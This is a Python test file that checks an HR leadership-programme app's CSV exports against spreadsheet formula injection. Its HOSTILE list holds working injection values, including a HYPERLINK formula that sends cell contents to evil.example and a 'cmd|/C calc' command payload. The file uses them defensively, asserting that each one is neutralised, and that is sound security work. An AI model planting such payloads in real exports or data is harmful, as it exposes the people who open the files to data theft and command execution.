"""Attack 9: a leader named ``=HYPERLINK(...)`` (from the HR system) runs as a formula
when HR opens the cohort dashboard export; the metrics export escaped only some
characters (not tab or carriage return).

Defence: one CSV renderer for every export neutralises cells that start with
``= + - @ \\t \\r`` and writes a byte-order mark for spreadsheet tools."""

import csv
import datetime
import io

import pytest

from tests.metrics.factories import MetricDefinitionFactory, observe
from tests.people.factories import LeaderFactory
from tests.programs.factories import CohortFactory, EnrollmentFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
BOM = "\ufeff"


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


@pytest.fixture
def hostile_cohort(db, clock):
    cohort = CohortFactory(starts_on=datetime.date(2027, 1, 4), ends_on=datetime.date(2027, 6, 30))
    for n, name in enumerate(HOSTILE):
        EnrollmentFactory(
            cohort=cohort, leader=LeaderFactory(full_name=name, email=f"h{n}@example.com")
        )
    return cohort


def _assert_neutralised(rows):
    cells = [cell for row in rows for cell in row]
    for name in HOSTILE:
        assert name not in cells
        assert f"'{name}" in cells


def test_the_cohort_dashboard_export_neutralises_formulas(api, hr, hostile_cohort):
    response = api(hr).get(f"/api/v1/dashboards/cohorts/{hostile_cohort.pk}/", {"format": "csv"})

    assert response.status_code == 200
    _assert_neutralised(_rows(response))


def test_the_metrics_export_neutralises_formulas_but_keeps_negative_numbers(
    api, hr, hostile_cohort
):
    leader = hostile_cohort.enrollments.first().leader
    for n, name in enumerate(HOSTILE):
        definition = MetricDefinitionFactory(code=f"hostile_{n}", name=name)
        observe(leader, definition.code, "2027-01", -3)

    response = api(hr).get(
        f"/api/v1/metrics/cohorts/{hostile_cohort.pk}/summary/", {"format": "csv"}
    )

    assert response.status_code == 200
    rows = _rows(response)
    _assert_neutralised(rows)
    averages = {row[1]: row[4] for row in rows[1:]}
    assert set(averages.values()) == {"-3.00"}  # a negative number is not a formula
